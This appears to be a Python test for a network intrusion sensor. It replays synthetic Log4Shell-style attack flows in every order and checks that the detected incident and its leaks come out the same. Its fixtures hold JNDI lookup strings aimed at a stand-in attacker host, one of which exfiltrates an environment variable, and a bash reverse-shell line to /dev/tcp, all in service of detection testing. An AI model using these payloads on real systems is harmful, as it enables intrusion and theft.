#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""orders.py SENSOR: the flows of one attack, a capture file each, are read in every order, and come to the same.

Lookup, name, callback with a reference, class, second stage: whichever is read first, at the end there is one incident with
all stages, the verdict and the leaks that the attack has in its own order. The least of them is read with two workers, too.
"""
import itertools
import json
import pathlib
import subprocess
import sys
import tempfile

import sensor as lab
from tale import EVIL, OTHER, Tale


def by_name(tale):
    return [lambda: tale.lookup("ldap://evil.example:1389/a"), lambda: tale.asks("evil.example", answer=EVIL),
            lambda: tale.search(codebase="http://%s:8888/" % EVIL), tale.fetch, tale.hello]


def with_leak(tale):
    """A value comes back in the callback, and the class calls a host that only it names."""
    return [lambda: tale.lookup("ldap://%s:1389/${env:USER}" % EVIL),
            lambda: tale.search("tomcat", codebase="http://%s:8888/" % EVIL),
            lambda: tale.fetch(words=["bash -i >& /dev/tcp/203.0.113.77/5555 0>&1"]), lambda: tale.hello(server="203.0.113.77", port=5555)]


def attack(steps_of):
    """The tale, and the places where its flows are cut apart."""
    tale, cuts = Tale(), []
    for step in steps_of(tale):
        step()
        cuts.append(len(tale.frames))
    tale.browse(OTHER)  # somebody else looks at the place: no part of it
    return tale, cuts[:-1]


def replay(program, paths, workers):
    command = [program, "-j", "--deterministic", "--set", "workers=%d" % workers, "-S", str(lab.TOP / "rules/jndi.rules"),
               "-s", str(lab.TOP / "rules/incidents.rules")]
    for path in paths:
        command += ["-r", str(path)]
    run = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, timeout=300)
    if run.returncode != 0:
        sys.exit("%s\nexit status %d\n%s" % (" ".join(command), run.returncode, run.stderr.decode(errors="replace")))
    return run.stdout.decode()


def outcome(text):
    """What all orders must agree in: no number, and no time of telling. A connection without words is judged later than
    all else, and part of what is told only when something is told after it."""
    return json.dumps([[story["victim"], story["verdict"], story["confidence"], story["lookup"],
                        [[stage["stage"], stage["count"], stage["first_seen"]] for stage in story["stages"] if stage["stage"] != "connection"],
                        [[leak["variable"], leak["value"], leak["place"]] for leak in story.get("leaks", [])]]
                       for story in lab.incidents(text).values()])


def judge(program, steps_of, folder):
    tale, cuts = attack(steps_of)
    paths = tale.files(folder, "flow", cuts)
    wanted = outcome(replay(program, paths, 1))
    if '"compromised"' not in wanted or wanted.count('"10.0.0.1"') != 1 or ("leak" in steps_of.__name__) != ("env:USER\", \"t" in wanted):
        sys.exit("%s: in its own order the attack is %s" % (steps_of.__name__, wanted))
    orders, bad = list(itertools.permutations(paths)), []
    for order in orders:
        for workers in (1, 2) if order[0] == paths[-1] and order[-1] == paths[0] else (1,):
            found = outcome(replay(program, order, workers))
            if found != wanted:
                bad.append("%s, %d workers: %s" % (" ".join(path.stem for path in order), workers, found))
    if bad:
        sys.exit("wanted %s\n%s\n%d of %d orders are wrong" % (wanted, "\n".join(bad[:5]), len(bad), len(orders)))
    print("%s: %d orders, each %s" % (steps_of.__name__, len(orders), wanted))


def main():
    with tempfile.TemporaryDirectory() as folder:
        for steps_of in (by_name, with_leak):
            judge(sys.argv[1], steps_of, pathlib.Path(folder))


if __name__ == "__main__":
    main()
